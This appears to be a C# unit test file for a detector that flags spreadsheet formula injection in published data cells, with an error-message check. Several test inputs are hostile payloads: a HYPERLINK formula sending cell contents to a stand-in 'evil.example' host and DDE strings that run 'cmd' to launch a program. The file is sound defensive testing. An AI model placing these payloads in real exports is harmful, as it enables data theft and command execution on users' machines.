using SendSite.Model.Diagnostics;
using SendSite.Model.OpenData;
using SendSite.Publishing;

namespace SendSite.Tests.Publishing;

public class SpreadsheetFormulaTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")")]
    [InlineData("@SUM(1+1)")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("- the base opened late")]
    [InlineData("+44 1632 960000")]
    [InlineData(" =1+1")]
    [InlineData("\t=1+1")]
    [InlineData("\r\n=1+1")]
    [InlineData("＝1+1")]
    public void A_text_a_spreadsheet_would_run_is_found(string cell) => Assert.True(SpreadsheetFormula.IsRun(cell));

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("-5")]
    [InlineData("-5.25")]
    [InlineData("Up by 5 = good")]
    [InlineData("feedback@example.org")]
    [InlineData("'=1+1")]
    [InlineData("<b>")]
    public void Words_and_negative_numbers_are_left_alone(string cell) => Assert.False(SpreadsheetFormula.IsRun(cell));

    [Fact]
    public void The_finding_names_the_row_the_column_and_the_text()
    {
        var table = new PublishedTable("updates", "Updates", "Rows.", [new PublishedColumn("id", "id", ColumnKind.Text), new PublishedColumn("note", "why", ColumnKind.Text)], [["a", "Fine."], ["b", "=1+1"]])
        {
            Sources = [new SourceSpan("data/updates.csv", 2, 1, 0), new SourceSpan("data/updates.csv", 3, 1, 0)],
        };

        var found = Assert.Single(SpreadsheetFormula.Find(table));

        Assert.Equal(
            """
            data/updates.csv:3:1: error SS470: "=1+1" begins with "=", so a spreadsheet would run it as a formula. It is the "note" of a row in /data/updates.csv.
              Begin the text with a word or a number.
            """,
            found.ToString(),
            ignoreLineEndingDifferences: true);
    }
}
